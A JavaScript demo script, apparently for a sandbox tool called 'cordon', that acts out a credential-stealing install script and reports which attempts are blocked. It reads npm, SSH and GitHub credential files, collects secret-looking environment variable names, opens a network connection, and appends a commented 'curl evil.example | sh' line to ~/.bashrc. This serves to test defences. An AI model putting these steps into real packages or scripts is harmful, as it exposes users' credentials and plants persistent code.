// An inert stand-in for a malicious install script or an AI-written helper
// gone wrong: it tries what real credential stealers (Shai-Hulud and
// friends) try, and reports what it could get. It never prints a secret,
// only how many bytes it got. Run it under cordon: `npm run demo`.
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";

const realHome = process.argv[2] ?? os.homedir();
const results = [];
const attempt = async (what, fn) => {
  try {
    const got = await fn();
    results.push([what, got ? `GOT IT (${String(got).length} bytes)` : "nothing there"]);
  } catch (error) {
    results.push([what, `blocked (${error.code ?? error.message})`]);
  }
};

await attempt("read ~/.npmrc (npm token)", () => fs.readFileSync(path.join(realHome, ".npmrc"), "utf8"));
await attempt("read ~/.ssh/id_rsa", () => fs.readFileSync(path.join(realHome, ".ssh/id_rsa"), "utf8"));
await attempt("read ~/.config/gh/hosts.yml", () => fs.readFileSync(path.join(realHome, ".config/gh/hosts.yml"), "utf8"));
await attempt("list the real home folder", () => fs.readdirSync(realHome).join(","));
await attempt("tokens in the environment", () =>
  Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET|PASSWORD|AUTH/.test(k)).join(","));
await attempt("plant a line in ~/.bashrc", () => {
  fs.appendFileSync(path.join(realHome, ".bashrc"), "\n# curl evil.example | sh\n");
  return "written";
});
await attempt("write next to this script", () => {
  fs.writeFileSync(new URL("./planted.txt", import.meta.url), "x");
  return "written";
});
await attempt("connect to 1.1.1.1:443", () => new Promise((resolve, reject) => {
  const socket = net.connect({ host: "1.1.1.1", port: 443, timeout: 2000 });
  socket.on("connect", () => { socket.destroy(); resolve("connected"); });
  socket.on("error", reject);
  socket.on("timeout", () => { socket.destroy(); reject(Object.assign(new Error("timeout"), { code: "ETIMEDOUT" })); });
}));

for (const [what, outcome] of results) console.log(`  ${what.padEnd(30)} ${outcome}`);
